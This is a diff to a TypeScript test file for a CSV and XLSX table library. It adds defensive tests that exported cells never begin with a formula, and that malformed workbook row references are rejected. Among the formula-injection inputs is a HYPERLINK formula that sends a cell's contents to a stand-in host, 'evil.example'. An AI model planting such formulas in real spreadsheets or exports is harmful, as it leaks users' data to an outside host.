@@ -3,8 +3,11 @@ import fc from "fast-check";
 import { describe, expect, test } from "vitest";
 import { ZipFile } from "yazl";
 import { type Cell, UnreadableTable } from "./cell.ts";
+import { csvLine } from "./csv.ts";
 import { readTable, type TableFormat, writeTable } from "./table-file.ts";
 
+/** The first character of a formula. */
+const SIGN = /^[=+\-@＝＋－＠]/;
 const FORMATS: TableFormat[] = ["csv", "xlsx"];
 
 async function* rowsOf(rows: Cell[][]) {
@@ -47,7 +50,7 @@ describe.each(FORMATS)("%s", (format) => {
       .string({ unit: "grapheme", maxLength: 30 })
       .filter((word) => !word.includes("\0"));
     const formula = fc.tuple(
-      fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'=", "''+", "'"),
+      fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'=", "''+", "'", "a;=", "\n＝", ";'\"@"),
       text,
     );
     const cell = fc.oneof(
@@ -82,6 +85,50 @@ describe.each(FORMATS)("%s", (format) => {
     const rows = Array.from({ length: 5 }, (_, place) => [place + 1]);
     expect(await reasonOf(await fileOf(format, rows), 4)).toBe("too-many-rows");
     expect(await reasonOf(await fileOf(format, rows), 5)).toBe("read");
+  });
+});
+
+/** Cells as Excel reads them: a quotation mark opens a text only at the start of a cell. */
+function cellsBy(delimiter: string, file: string): string[] {
+  const cells: string[] = [];
+  let at = 0;
+  while (at < file.length) {
+    let cell = "";
+    if (file[at] === '"') {
+      for (at += 1; at < file.length; at += 1) {
+        if (file[at] === '"' && file[(at += 1)] !== '"') break;
+        cell += file[at];
+      }
+    }
+    while (at < file.length && !`${delimiter}\r\n`.includes(file[at] ?? "")) cell += file[at++];
+    at += 1;
+    cells.push(cell);
+  }
+  return cells;
+}
+
+describe.each([",", ";", "\t"])("text files that a program splits at %j", (delimiter) => {
+  test.each([
+    'Ali;=HYPERLINK("http://evil.example/"&A1,"open");x',
+    'a\t"=1+1',
+    "a\r\n＝1+1",
+    "＋1",
+  ])("contain no formula for %j", (text) => {
+    expect(cellsBy(delimiter, csvLine(["F-1", text])).filter((cell) => SIGN.test(cell))).toEqual(
+      [],
+    );
+  });
+
+  test("contain no formula for any text", () => {
+    const piece = fc.constantFrom(..."=+-@＝＋－＠;,\t\r\n\"' a1");
+    const text = fc.string({ unit: piece, maxLength: 12 });
+    fc.assert(
+      fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 3 }), (rows) => {
+        const file = rows.map((row) => csvLine(row)).join("");
+        expect(cellsBy(delimiter, file).filter((cell) => SIGN.test(cell))).toEqual([]);
+      }),
+      { numRuns: 2_000 },
+    );
   });
 });
 
@@ -139,6 +186,28 @@ describe("workbooks", () => {
     expect(await reasonOf(await workbook(laughs))).toBe("broken-file");
     const wide = `<worksheet><row r="1"><c r="XFD1"><v>1</v></c></row></worksheet>`;
     expect(await reasonOf(await workbook(wide))).toBe("too-many-columns");
+  });
+
+  test.each([
+    '<row r="abc"/>',
+    '<row r="1e9"/>',
+    '<row r="0"/>',
+    '<row r="-1"/>',
+    '<row r="1.5"/>',
+    '<row r="1048577"/>',
+    '<row r=""/>',
+    '<row r="2"/><row r="2"/>',
+    '<row r="2"/><row r="1"/>',
+    '<row r="1"><row r="2"/></row>',
+    '<row r="1"><c r="A2"><v>1</v></c></row>',
+    '<row r="1"><c r="7"><v>1</v></c></row>',
+    '<row r="1"><c r="A"><v>1</v></c></row>',
+    '<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
+    '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
+  ])("reports a broken file for the places %s", async (rows) => {
+    expect(
+      await reasonOf(await workbook(`<worksheet><sheetData>${rows}</sheetData></worksheet>`)),
+    ).toBe("broken-file");
   });
 
   test("other zip files, and broken ones, are refused", async () => {
